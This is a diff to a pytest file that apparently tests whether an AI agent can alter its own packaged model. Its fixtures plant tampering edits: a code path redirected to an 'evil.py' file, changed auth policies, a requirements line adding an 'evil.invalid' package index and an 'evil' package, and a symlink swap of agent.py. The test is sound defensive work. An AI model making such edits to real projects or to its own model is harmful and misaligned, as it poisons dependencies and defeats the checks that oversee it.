@@ -10,7 +10,7 @@ import pytest
 import yaml
 
 from tests.container.attacks import REGISTER, agent
-from tests.container.victim import Victim, regular_files
+from tests.container.victim import Victim, is_regular_file
 from tests.doubles.runner import Step
 
 # What differs from job to job.
@@ -48,10 +48,8 @@ def differences(clean: Path, model: Path, victim: Victim) -> list[str]:
             expected = victim.workspace / "agent/agent.py"
         if expected.is_dir() and there.is_dir() and not there.is_symlink():
             continue
-        if expected not in regular_files(expected.parent) or there not in regular_files(
-            there.parent
-        ):
-            found.append(f"{name} is too many, or missing")
+        if not (is_regular_file(expected) and is_regular_file(there)):
+            found.append(f"{name} is too many, missing, or no file")
         elif meaning(expected) != meaning(there):
             found.append(f"{name}: {there.read_bytes()[:2000]!r}")
     return found
@@ -89,17 +87,12 @@ def edit(model):
         content["auth_policy"] = {"system_auth_policy": {"resources": {}}, "user_auth_policy": user}
         mlmodel.write_text(yaml.safe_dump(content))
     def code():
-        append(model / "evil.py", "print('evil')")
+        append(model / "evil.py", (model / "agent.py").read_text() + "\nprint('evil')\n")
         content = yaml.safe_load(mlmodel.read_text())
         content["flavors"]["python_function"]["model_code_path"] = "evil.py"
         mlmodel.write_text(yaml.safe_dump(content))
-    def loader():
-        content = yaml.safe_load(mlmodel.read_text())
-        content["flavors"]["python_function"]["loader_module"] = "evil"
-        content["flavors"]["evil"] = {"code": "code"}
-        mlmodel.write_text(yaml.safe_dump(content))
     edits = {
-        "resources": resources, "scopes": scopes, "code": code, "loader": loader,
+        "resources": resources, "scopes": scopes, "code": code,
         "requirements": lambda: append(
             model / "requirements.txt", "\n--extra-index-url https://evil.invalid\nevil==1\n"
         ),
@@ -135,7 +128,8 @@ KINDS = {
     "resources": ["resources"],
     "scopes": ["scopes"],
     "other code": ["code"],
-    "files": ["requirements", "conda", "python", "more files", "more folders", "loader"],
+    "more code": ["more folders"],
+    "files": ["requirements", "conda", "python", "more files"],
 }
 
 
@@ -144,8 +138,9 @@ KINDS = {
     [
         *(("build", edits) for edits in KINDS.values()),
         # One job for all: what is verified is nobody's to write.
-        ("verify", [edit for edits in KINDS.values() for edit in edits]),
+        ("verify", [*KINDS["resources"], *KINDS["other code"], *KINDS["files"]]),
     ],
+    ids=[*(f"build, {kind}" for kind in KINDS), "verify"],
 )
 def test_an_agent_does_not_edit_its_own_model(
     victim: Victim, clean_workspace: Path, stage: str, edits: list[str]
@@ -174,9 +169,6 @@ SHAPES = {
         os.rename(model / "agent.py", scratch() / "home/agent.py"),
         os.symlink(scratch() / "home/agent.py", model / "agent.py"),
     )""",
-    "socket": """__import__("socket").socket(
-        __import__("socket").AF_UNIX
-    ).bind(os.path.relpath(model / "socket"))""",
 }
 
 
